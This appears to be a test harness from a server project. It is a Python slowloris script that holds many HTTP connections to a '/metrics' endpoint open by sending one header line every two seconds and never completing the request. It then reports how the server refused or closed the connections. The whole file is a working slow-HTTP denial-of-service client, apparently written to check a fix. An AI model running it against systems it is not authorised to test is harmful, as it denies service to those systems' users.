#!/usr/bin/env python3
"""Slow HTTP clients, as issue 12 attacked the metrics endpoint with.

usage: slowloris.py HOST PORT CONNECTIONS SECONDS [unix:PATH]

Keeps CONNECTIONS connections open for SECONDS, each sending one more
header line every 2 s and never ending its request; a connection the server
closes is opened again at once. Prints one JSON line: how many connections
were opened, refused at connect, closed by the server, and the longest any
connection lived before the server closed it (s).
"""
import json
import socket
import sys
import time


def connect(host, port, unix):
    if unix:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(unix)
    else:
        s = socket.create_connection((host, port), timeout=2)
    s.setblocking(False)
    s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
    return s


def main():
    host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    unix = sys.argv[5][5:] if len(sys.argv) > 5 and sys.argv[5].startswith("unix:") else None
    stats = {"opened": 0, "refused": 0, "closed_by_server": 0, "longest_closed": 0.0}
    conns = []  # [socket, opened_at]
    end = time.monotonic() + seconds
    next_line = 0.0
    while time.monotonic() < end:
        while len(conns) < n:
            try:
                conns.append([connect(host, port, unix), time.monotonic()])
                stats["opened"] += 1
            except OSError:
                stats["refused"] += 1
                break
        now = time.monotonic()
        send = now >= next_line
        if send:
            next_line = now + 2
        alive = []
        for s, at in conns:
            closed = False
            try:
                if s.recv(4096) == b"":
                    closed = True
            except BlockingIOError:
                pass
            except OSError:
                closed = True
            if not closed and send:
                try:
                    s.send(b"X-Slow: %d\r\n" % int(now))
                except OSError:
                    closed = True
            if closed:
                stats["closed_by_server"] += 1
                stats["longest_closed"] = max(stats["longest_closed"], now - at)
                s.close()
            else:
                alive.append([s, at])
        conns = alive
        time.sleep(0.1)
    for s, _ in conns:
        s.close()
    stats["longest_closed"] = round(stats["longest_closed"], 1)
    print(json.dumps(stats))


if __name__ == "__main__":
    main()
